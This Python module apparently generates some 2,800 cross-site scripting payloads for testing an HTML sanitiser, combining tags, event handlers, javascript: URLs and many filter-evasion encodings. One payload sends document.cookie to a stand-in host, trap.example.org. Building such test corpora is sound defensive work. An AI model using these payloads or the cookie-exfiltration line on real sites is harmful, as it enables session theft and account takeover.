"""About 2,800 pieces of text that would run as script wherever a page took them for markup: our own, DOMPurify's, and
every tag × every way to run × every way to write it, taken evenly from all of them."""

import json
import random
from collections.abc import Callable
from itertools import product

from tests.browser.payloads import OUR_OWN
from tests.corpora import corpus

MANY = 2800
_TAGS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<input autofocus {}>", "<details open {}>", "<video src=x {}>", "<audio src=x {}>",
    "<iframe src=x {}></iframe>", "<object data=x {}></object>", "<embed src=x {}>", "<a href=x {}>a</a>", "<math><mi {}>", "<x {}>",
    "<select autofocus {}>", "<textarea autofocus {}>", "<marquee {}>", "<style {}></style>", "<script {}></script>",
    "<form {}><button>go</button></form>", "<svg><animate attributeName=x dur=1s {}></svg>", "<p {}>", "<table><td {}>",
    "\"{} x=\"", "'{} x='", "`{} x=`", "</textarea><img src=x {}>", "</title><img src=x {}>", "--><img src=x {}>",
    "]]><img src=x {}>", "</script><img src=x {}>", "[a](x \"{}\")", "![a](x '{}')", "<http://a.example/\" {} x=\">", "| {} |\n|---|\n| <img src=x {}> |",
)  # fmt: skip
_RUNS = (
    "onerror={}", "onload={}", "onfocus={}", "ontoggle={}", "onclick={}", "onmouseover={}", "onanimationstart={}",
    "onbegin={}", "onpointerenter={}", "onbeforeinput={}", "ontransitionend={}", "onscroll={}", "onhashchange={}",
    "onloadstart={}", "href=javascript:{}", "src=javascript:{}", "xlink:href=javascript:{}", "formaction=javascript:{}",
    "action=javascript:{}", "srcdoc='<script>parent.{}</script>'", "data=javascript:{}",
    "style=background:url(javascript:{})", "values=javascript:{} attributeName=href",
    "style=background-image:url(http://trap.example.org/b.png)", "poster=http://trap.example.org/p.png",
)  # fmt: skip
_WHAT = ("alert(1)", "alert`1`", "confirm(document.domain)", "fetch('http://trap.example.org/'+document.cookie)", "throw(onerror=alert)")


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" for one in text)


def _hexed(text: str) -> str:
    return "".join(f"&#x{ord(one):x}" for one in text)


_WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper(),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" on", "\x0con").replace("java", "java\t"),
    lambda text: text.replace(" on", "/on"),
    lambda text: text.replace("javascript:", "java&#10;script:"),
    lambda text: text.replace("javascript:", "&#106avascript&colon;"),
    lambda text: text.replace("<", "<\u200b").replace("<\u200b", "<", 1),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: text.replace("(", _entities("(")).replace(")", _entities(")")),
    lambda text: text.replace("=", _hexed("=") + ";", 1),
    lambda text: f"- {text}\n- **{text}**",
    lambda text: f"> {text}",
)


def many_payloads() -> list[str]:
    """All of them, the same ones each time, in an order that mixes the kinds."""
    file = corpus("dompurify") / "expect.json"
    theirs = [str(one["payload"]) for one in json.loads(file.read_text(encoding="utf-8"))]
    theirs = [one for one in theirs if len(one) < 3000 and "\0" not in one]
    chance = random.Random(2800)
    made = dict.fromkeys([*OUR_OWN, *theirs])
    every = list(product(_TAGS, _RUNS))
    chance.shuffle(every)
    number = 0
    while len(made) < MANY:
        tag, run = every[number % len(every)]
        what = _WHAT[(number // 3) % len(_WHAT)]
        way = _WAYS[(number + number // len(every)) % len(_WAYS)]
        made[way(tag.replace("{}", run.replace("{}", what)))] = None
        number += 1
    found = list(made)
    chance.shuffle(found)
    return found
